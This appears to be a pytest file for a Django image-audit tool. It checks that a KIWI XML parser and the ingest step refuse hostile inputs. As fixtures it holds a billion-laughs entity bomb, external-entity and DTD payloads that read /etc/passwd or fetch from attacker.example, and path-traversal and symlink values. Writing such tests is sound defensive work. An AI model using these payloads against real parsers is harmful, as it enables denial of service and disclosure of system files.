"""Hostile KIWI descriptions and image definitions: XML bombs, external entities, DTDs, oversized files,
paths out of the repository or through symlinks, missing files. Each is refused with a clear error recorded
for that image; the ingest itself succeeds, and the other images are read."""

import os

import pytest
from django.test import override_settings

from audits.kiwi import MAX_KIWI_BYTES, KiwiError, parse_kiwi
from audits.models import Commit, Distribution, Image, Release
from audits.services.ingest import ingest_release
from jobs.models import Job
from tests.audits import image_repo
from tests.support.gitrepo import commit_all, init_repo

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE image [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<image name="&lol4;"><packages type="image"><package name="&lol4;"/></packages></image>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE image [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<image name="x"><packages type="image"><package name="&secret;"/></packages></image>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE image SYSTEM "https://attacker.example/kiwi.dtd">
<image name="x"><packages type="image"><package name="bash"/></packages></image>
"""
PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE image>
<image name="x"><packages type="image"><package name="bash"/></packages></image>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE image [<!ENTITY % remote SYSTEM "https://attacker.example/x.dtd"> %remote;]>
<image name="x"/>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PLAIN_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "dtd", "parameter-entity"])
def test_xml_with_a_dtd_or_entities_is_refused_before_anything_is_expanded(data):
    with pytest.raises(KiwiError, match=r"^x\.kiwi: refused: .*(DTDs, entities and external references are not allowed)"):
        parse_kiwi(data, "x.kiwi")


def test_a_description_over_the_size_limit_is_refused_unparsed():
    data = b"<image>" + b" " * MAX_KIWI_BYTES + b"</image>"
    with pytest.raises(KiwiError, match=f"exceeds the size limit \\({len(data)} > {MAX_KIWI_BYTES} bytes\\)"):
        parse_kiwi(data, "x.kiwi")


def test_a_description_with_too_many_elements_is_refused():
    data = b"<image>" + b"<a/>" * 60_000 + b"</image>"
    with pytest.raises(KiwiError, match="60001 elements, more than the limit"):
        parse_kiwi(data, "x.kiwi")


HOSTILE_IMAGES = {
    "bomb": ("bomb.kiwi", "refused: DTDForbidden"),
    "entity": ("entity.kiwi", "refused: DTDForbidden"),
    "dtd": ("dtd.kiwi", "refused: DTDForbidden"),
    "traversal": ("../../../../etc/passwd", "path escapes the repository root"),
    "absolute": ("/etc/passwd", "absolute or non-POSIX path not allowed"),
    "missing": ("nowhere.kiwi", "no such file in the repository: base/images/nowhere.kiwi"),
    "symlink": ("link.kiwi", "symlinks are not followed: base/images/link.kiwi"),
}


@pytest.fixture(scope="module")
def hostile_release(tmp_path_factory, django_db_setup, django_db_blocker):
    """One ingest for every case (module-scoped: outlives the tests' transactions, so it cleans up)."""
    repo = tmp_path_factory.mktemp("hostile") / "repo"
    files = image_repo.files()
    files["base/images/bomb.kiwi"] = BILLION_LAUGHS.decode()
    files["base/images/entity.kiwi"] = EXTERNAL_ENTITY.decode()
    files["base/images/dtd.kiwi"] = EXTERNAL_DTD.decode()
    for name, (path, _) in HOSTILE_IMAGES.items():
        files["base/images/images.toml"] += f'\n[images.hostile-{name}]\ndefinition = {{ type = "kiwi", path = "{path}" }}\n'
    init_repo(repo, files)
    os.symlink("/etc/passwd", repo / "base/images/link.kiwi")
    sha = commit_all(repo, "a symlink to outside")
    with django_db_blocker.unblock(), override_settings(PEDIGREE_ALLOW_LOCAL_SOURCES=True):
        release = ingest_release(str(repo), sha).release
        yield release
        for model in (Release, Job, Commit, Distribution):
            model.objects.all().delete()


@pytest.mark.parametrize("name", sorted(HOSTILE_IMAGES))
def test_a_hostile_image_definition_is_recorded_as_that_images_error_and_the_ingest_goes_on(hostile_release, name, db):
    image = hostile_release.images.get(name=f"hostile-{name}")
    assert HOSTILE_IMAGES[name][1] in image.error
    assert (image.direct_count, image.closure_count, image.packages.count()) == (0, 0, 0)
    good = hostile_release.images.get(name="vm")
    assert (good.error, good.direct_count) == ("", 4)
    assert Image.objects.filter(release=hostile_release).count() == 3 + len(HOSTILE_IMAGES)
